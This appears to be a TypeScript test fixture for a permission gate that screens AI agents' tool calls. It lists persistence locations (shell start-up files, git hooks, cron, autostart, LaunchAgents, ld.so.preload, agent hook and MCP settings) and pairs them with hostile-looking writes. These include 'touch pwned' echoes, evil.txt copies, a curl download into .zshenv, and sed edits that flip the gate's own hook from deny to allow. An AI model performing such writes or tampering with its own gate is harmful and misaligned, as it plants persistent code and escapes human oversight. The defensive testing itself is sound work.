import { bash, CODE, DENIED, type Entry, edit, HOME_GRANTS, section, tool, write } from "../row.ts";

/** C10, M4 and N7's chmod: what is written where it is run later, and the gate's own program. */

/** Start-up files, folders on PATH, what git, cron, the desktop, direnv and agents run. Below the home folder. */
const RUN_LATER = [
  ".gitconfig",
  ".config/git/config",
  ".zshenv",
  ".zshrc",
  ".zprofile",
  ".bashrc",
  ".bash_profile",
  ".profile",
  ".config/fish/config.fish",
  ".config/autostart/x.desktop",
  ".config/systemd/user/x.service",
  ".local/bin/ls",
  ".cargo/bin/rg",
  "Library/LaunchAgents/x.plist",
  "proj/.git/hooks/post-checkout",
  "proj/.envrc",
  "proj/.mcp.json",
] as const;

/** What agents run. The files that hold the gate's hook are another matter: see gate-settings.ts. */
const AGENTS_SETTINGS = [
  ".claude.json",
  ".claude/hooks/x.sh",
  ".claude/plugins/p/hooks/hooks.json",
  ".cursor/mcp.json",
] as const;

/** Of those, the ones that hold a hook of the gate's: see gate-in-place.test.ts. */
const HOOKS_SETTINGS = [".codex/config.toml", ".gemini/settings.json"] as const;

/** What the system runs. */
const SYSTEM = ["/etc/cron.d/x", "/var/spool/cron/crontabs/me", "/etc/profile.d/x.sh"] as const;

const GATE_PROGRAM = ["bin/metnos-gate.js", "dist/hook/hook.cjs", "node_modules/node/bin/node"] as const;

const GRANTS = [...HOME_GRANTS, "fs:write /etc/**", "fs:write /var/spool/**"];

/** Each of the writers on one place. */
function writersOn(path: string, why: string, more: Partial<Entry> = {}): Entry[] {
  const calls = [
    write(path),
    edit(path),
    bash(`echo 'touch pwned' > ${path}`),
    bash(`cp evil.txt ${path}`),
    bash(`mv evil.txt ${path}`),
  ];
  return calls.map((call) => ({ grants: GRANTS, ...more, call, why }));
}

export const RUN_LATER_PLACES = section("C10", CODE, [
  ...RUN_LATER.flatMap((path) => writersOn(`{home}/${path}`, "it is run later")),
  ...AGENTS_SETTINGS.slice(0, 3).flatMap((path) => writersOn(`{home}/${path}`, "an agent runs it later")),
  ...HOOKS_SETTINGS.flatMap((path) => writersOn(`{home}/${path}`, "it holds the gate's hook", { expected: DENIED })),
  ...AGENTS_SETTINGS.slice(3).flatMap((path) => writersOn(`{home}/${path}`, "an agent runs it later")),
  ...SYSTEM.flatMap((path) => writersOn(path, "the system runs it later")),
  ...writersOn("/etc/ld.so.preload", "every program loads it", { expected: DENIED }),
  ...GATE_PROGRAM.flatMap((path) =>
    writersOn(`{home}/checkout/${path}`, "the gate's own program", { expected: DENIED }),
  ),
  {
    call: bash("sed -i.bak s/deny/allow/ {home}/checkout/dist/hook/hook.cjs"),
    why: "the gate's own program",
    expected: DENIED,
    grants: GRANTS,
  },
  {
    call: bash("sed -i s/deny/allow/ {home}/checkout/dist/hook/hook.cjs"),
    why: "the gate's own program",
    expected: DENIED,
    grants: GRANTS,
  },
  {
    call: tool("fs_write", { path: "{home}/.zshenv", content: "x" }),
    why: "it is run later",
    grants: GRANTS,
  },
  {
    call: tool("mcp__files__put", { path: "{home}/.zshenv", content: "x" }),
    why: "it is run later",
    grants: GRANTS,
  },
  { call: bash("tee {home}/.zshenv"), why: "it is run later", grants: GRANTS },
  {
    call: bash("cp -r src {home}/.config/autostart"),
    why: "it becomes the folder itself, with whatever entry of the gate is in it",
    expected: DENIED,
    grants: GRANTS,
  },
  { call: bash("mv src {home}/.local/bin"), why: "a folder put there", grants: GRANTS },
  { call: bash("cp evil.txt {home}/.local/bin/"), why: "a file put into the folder", grants: GRANTS },
  ...writersOn("{home}/tools/ls", "a folder of PATH"),
  {
    call: bash("curl -o {home}/.zshenv https://example.org/a"),
    why: "a download put there",
    grants: [...GRANTS, "network:http example.org"],
  },
  {
    call: bash("cp -r src {home}/.config/autostart"),
    why: "a folder put into the one that is there, beside the gate's entry",
    prepare: ({ put }) => put(".config/autostart/notes.desktop"),
    grants: GRANTS,
  },
  {
    call: bash("cp -rT src {home}/.config/autostart"),
    why: "over the folder that is there",
    prepare: ({ put }) => put(".config/autostart/notes.desktop"),
    expected: DENIED,
    grants: GRANTS,
  },
]);
